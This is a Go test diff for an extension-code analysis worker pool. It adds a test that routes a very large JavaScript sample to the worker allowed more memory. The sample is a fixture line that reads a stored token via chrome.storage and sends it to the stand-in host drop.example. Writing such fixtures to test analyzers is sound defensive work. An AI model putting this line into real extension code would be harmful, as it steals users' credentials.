@@ -204,10 +204,28 @@ func TestPoolAfterDeath(t *testing.T) {
 		if _, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files}); err != nil {
 			t.Fatal(err)
 		}
-		w := <-p.slots
-		_ = w.command.Process.Kill()
-		p.slots <- w
+		s := <-p.roomy
+		_ = s.worker.command.Process.Kill()
+		p.roomy <- s
 	}
+}
+
+// TestPoolGiant has a giant come to a worker that may not use the memory for it: it goes to the one that may.
+func TestPoolGiant(t *testing.T) {
+	p := newTestPool(t, 2, "analysis-worker")
+	code := "chrome.storage.local.get('token', (t) => fetch('https://drop.example/?' + t.token)); /*" + strings.Repeat("x", giantCode) + "*/"
+	m := &manifests.Manifest{Background: manifests.Background{Scripts: []string{"a.js"}}}
+	files := pack(map[string]string{"a.js": code})
+	roomy := <-p.roomy
+	time.AfterFunc(time.Second/2, func() { p.roomy <- roomy })
+	r, err := p.Analyze(context.Background(), Input{Manifest: m, Files: files})
+	if err != nil || len(r.Calls) == 0 {
+		t.Errorf("%d calls, %v, %v", len(r.Calls), r.Problems, err)
+	}
+	if roomy = <-p.roomy; roomy.worker == nil {
+		t.Error("the roomy worker was not asked")
+	}
+	p.roomy <- roomy
 }
 
 func TestServedRefuses(t *testing.T) {
